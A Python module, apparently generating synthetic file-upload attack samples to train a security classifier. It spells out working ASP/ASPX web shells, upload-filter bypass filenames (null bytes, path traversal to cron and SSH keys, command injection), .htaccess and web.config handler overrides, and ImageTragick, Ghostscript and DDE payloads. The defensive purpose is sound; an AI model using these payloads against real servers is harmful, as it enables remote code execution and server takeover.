"""Uploads: names of files that a server would run, contents that run, handlers."""

from __future__ import annotations

from securitai.train.corpora.attacks.code_php import PHP_SHELL
from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.kinds import FILE, FILENAME, VALUE, AttackKind
from securitai.verdict import Category

_G = Grammar(
    r"""
stem = shell¦cmd¦test¦x¦1¦a¦poc¦info¦phpinfo¦webshell¦backdoor¦up¦image¦avatar¦logo¦wso¦c99¦r57¦b374k¦payload¦exploit¦evil¦file¦index¦config¦xx¦hack¦pwn¦upload¦photo¦doc¦0¦cmdasp¦antsword¦behinder¦godzilla¦exec¦rce¦simple¦mini
base:
  3×‹stem›
  3×‹rnd›
  ‹az›
  ‹syl›
  ‹hexrun›
run = php¦php¦php¦php5¦php7¦php3¦php4¦phtml¦pht¦phar¦phps¦pHp¦PHP¦Php5¦inc¦php.jpg¦module¦ctp¦jsp¦jsp¦jspx¦jsw¦jsv¦jspf¦jhtml¦asp¦aspx¦ashx¦asmx¦asa¦cer¦cdx¦cshtml¦aspq¦soap¦config¦cfm¦cfc¦cfml¦pl¦cgi¦py¦rb¦sh¦bat¦exe¦ps1¦hta¦vbs¦war¦jar¦shtml¦stm¦shtm¦swf¦svg¦xml¦htaccess¦do¦action¦jSp¦AsPx¦php2¦php6¦pgif¦hphp¦dll¦so¦elf¦scr¦lnk¦msi¦node¦lua
safe = jpg¦png¦gif¦jpeg¦pdf¦txt¦doc¦csv¦zip¦bmp¦ico¦webp¦mp4¦docx¦html¦xml
names:
  6×‹base›.‹run›
  3×‹base›.‹run›.‹safe›
  3×‹base›.‹safe›.‹run›
  2×‹base›.‹run›%00.‹safe›
  2×‹base›.‹run›‹nul›.‹safe›
  ‹base›.‹run›\x00.‹safe›
  2×‹base›.‹run›;.‹safe›
  ‹base›.‹run›;‹base›.‹safe›
  ‹base›.‹run›/.‹safe›
  ‹base›.‹run›/
  ‹base›.‹run›.
  ‹base›.‹run›...
  ‹base›.‹run›%20
  ‹base›.‹run›‹sp›
  ‹base›.‹run›%0a
  ‹base›.‹run›%0d%0a.‹safe›
  ‹base›.‹run›‹nl›
  ‹base›.‹run›::$DATA
  ‹base›.‹run›::$DATA.‹safe›
  ‹base›.‹run›:.‹safe›
  ‹base›.‹run›#.‹safe›
  ‹base›.‹run›?.‹safe›
  ‹base›.‹run›.‹az›
  ‹base›.‹run›.‹az›.‹safe›
  ‹base›.<>‹run›
  ‹base›.‹run›......
  ‹base›.‹run›_
  ‹base›.‹safe›.‹run›.‹safe›
  ‹base›.p.phphp
  ‹base›.‹run›%E2%80%AEgpj.‹safe›
  .htaccess
  web.config
  .user.ini
  .htpasswd
  ../‹base›.‹run›
  2×../../‹base›.‹run›
  2×../../../../../../‹var/www/html¦tmp¦opt/tomcat/webapps/ROOT¦inetpub/wwwroot¦usr/local/tomcat/webapps/ROOT¦etc/cron.d¦root/.ssh¦srv/dotserver/tomcat/webapps/ROOT¦webapps›/‹base›.‹run›
  ..\..\..\‹inetpub\wwwroot¦webapps\ROOT¦xampp\htdocs›\‹base›.‹run›
  ..%2f..%2f‹base›.‹run›
  ....//....//‹base›.‹run›
  /var/www/html/‹base›.‹run›
  C:\inetpub\wwwroot\‹base›.‹run›
  /../../..‹u_file›
  ../../../../../etc/cron.d/‹az›
  ../../../../../root/.ssh/authorized_keys
  ‹base›.‹run›";.‹safe›
  ‹base›.‹safe›;‹ucmd0›
  ‹base›.‹safe›|‹ucmd0›
  ;‹ucmd0›;.‹safe›
  $(‹ucmd0›).‹safe›
  `‹ucmd0›`.‹safe›
  "><img src=x onerror=alert(‹d1›)>.‹safe›
  <svg onload=alert(‹d1›)>.‹safe›
  <script>alert(‹d1›)</script>.‹safe›
  ' or ‹d1›=‹d1›-- .‹safe›
  ‹base›'+sleep(‹d1›)+'.‹safe›
  sleep(‹d1›)-- -.‹safe›
  {{‹d1›*‹d1›}}.‹safe›
  ${jndi:ldap://‹host›/‹az›}.‹safe›
  ‹base›.‹safe›/.‹run›
  ‹base›.jsp/‹e›
  ‹base›.‹run› .‹safe›
  ‹base›.war
  ‹base›.‹safe›.zip/../../‹base›.‹run›
aspx:
  <%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe","/c "+Request["‹az›"]); %>
  <%@ Page Language="Jscript"%><%eval(Request.Item["‹az›"],"unsafe");%>
  <%@ WebHandler Language="C#" Class="‹Az›" %>using System;using System.Web;public class ‹Az›:IHttpHandler{public void ProcessRequest(HttpContext c){System.Diagnostics.Process.Start(c.Request["‹az›"]);}public bool IsReusable{get{return false;}}}
  <%@ Page Language="C#" Debug="true" Trace="false" %><%@ Import Namespace="System.Diagnostics" %><script runat="server">‹nl›string E(string a){ProcessStartInfo p=new ProcessStartInfo();p.FileName="cmd.exe";p.Arguments="/c "+a;p.RedirectStandardOutput=true;p.UseShellExecute=false;return Process.Start(p).StandardOutput.ReadToEnd();}‹nl›</script>
  <% Response.Write("‹rnd›") %>
  <%=‹n›*‹n›%>
  <%eval request("‹az›")%>
  <%execute(request("‹az›"))%>
  <%ExecuteGlobal request("‹az›")%>
  <% Set s=Server.CreateObject("WScript.Shell"):Response.Write s.Exec("cmd /c "&Request("‹az›")).StdOut.ReadAll %>
  <%set o=server.createobject("wscript.shell")%><pre><%=o.exec("%comspec% /c ‹wcmd0›").stdout.readall%></pre>
  <script language="vbscript" runat="server">execute request("‹az›")</script>
  <script runat="server" language="JScript">function Page_Load(){eval(Request["‹az›"],"unsafe");}</script>
  <%@Page Language="C#"%><%System.Reflection.Assembly.Load(Convert.FromBase64String(Request["‹az›"])).CreateInstance("‹Az›").Equals(this);%>
  <%Response.Write(‹n›*‹n›);System.IO.File.Delete(Request.PhysicalPath);%>
handlers:
  AddType application/x-httpd-php .‹safe›
  AddHandler ‹php5-script¦application/x-httpd-php¦cgi-script› .‹safe›
  <FilesMatch "‹az›.‹safe›">‹nl›SetHandler application/x-httpd-php‹nl›</FilesMatch>
  SetHandler ‹application/x-httpd-php¦cgi-script¦server-status¦ld-lua›
  php_value auto_prepend_file ‹az›.‹safe›
  php_value auto_append_file "php://filter/convert.base64-decode/resource=‹az›.‹safe›"
  auto_prepend_file=‹az›.‹safe›
  Options +ExecCGI‹nl›AddHandler cgi-script .‹safe›
  <?xml version="1.0" encoding="UTF-8"?><configuration><system.webServer><handlers accessPolicy="Read, Script, Write"><add name="‹az›" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll" resourceType="Unspecified" /></handlers></system.webServer></configuration><!-- <%Response.write(‹n›)%> -->
  #define width ‹n›‹nl›#define height ‹n›‹nl›AddType application/x-httpd-php .‹safe›
  push graphic-context‹nl›viewbox 0 0 640 480‹nl›fill 'url(https://‹host›/x.jpg"|‹ucmd0›")'‹nl›pop graphic-context
  <image authenticate='ff" `‹ucmd0›`;"'><read filename="pdf:/etc/passwd"/></image>
  %!PS‹nl›userdict /setpagedevice undef‹nl›save‹nl›legal‹nl›{ null restore } stopped { pop } if‹nl›mark /OutputFile (%pipe%‹ucmd0›) currentdevice putdeviceprops
  (metadata "\c${system('‹ucmd0›')};")
  #!/‹bin/sh¦bin/bash¦usr/bin/perl¦usr/bin/python¦usr/bin/env python3›‹nl›‹ucmd›
  #!/usr/bin/perl‹nl›use CGI;print header;print `$ENV{QUERY_STRING}`;
  #!/usr/bin/python‹nl›import cgi,os;print("Content-Type: text/html\n");os.system(cgi.FieldStorage()["‹az›"].value)
  <cfexecute name="cmd.exe" arguments="/c #url.‹az›#" variable="o" timeout="10"></cfexecute><cfoutput>#o#</cfoutput>
  <cfscript>cfexecute(name="/bin/bash",arguments="-c ‹ucmd0›")</cfscript>
  <svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>
  <?xml version="1.0" standalone="no"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg version="1.1" xmlns="http://www.w3.org/2000/svg"><polygon points="0,0 0,50 50,0"/><script type="text/javascript">alert(document.cookie);</script></svg>
  <html><body><script>alert(document.domain)</script></body></html>
  <!--#exec cmd="‹ucmd0›" -->
  GIF89a/*‹az›*/=alert(‹d1›)//;
  %PDF-1.‹d1›‹nl›1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(‹n›);this.submitForm("‹url›"))>>>>endobj
  ID;PWXL;N;E‹nl›C;X1;Y1;ECALL("Kernel32","WinExec","JCJ","‹wcmd0›",1)
  {\rtf1{\field{\*\fldinst {DDEAUTO c:\\windows\\system32\\cmd.exe "/k ‹wcmd0›"}}}}
image:
  ‹magic›‹nl›‹php›
  ‹magic›‹php›
  ‹magic›‹junk›‹php›
  ‹junk›‹php›‹junk›
  ‹php›
magic = GIF89a¦GIF87a¦GIF89a;¦BM¦%PDF-1.4¦ÿØÿà¦‰PNG¦PK¦II*¦RIFF
""",
    PARTS,
    {
        "php": PHP_SHELL,
        "junk": lambda rng: rng.randbytes(4 + int(rng.random() * 60)).decode("latin-1"),
    },
)
_C = Category.FILE_UPLOAD
KINDS = (
    AttackKind("upload.name", _C, _G.maker("names"), 5.0, (FILENAME,)),
    AttackKind("upload.asp", _C, _G.maker("aspx"), 2.0, (FILE, VALUE)),
    AttackKind("upload.handler", _C, _G.maker("handlers"), 2.0, (FILE,)),
    AttackKind("upload.image", _C, _G.maker("image"), 2.0, (FILE,)),
)
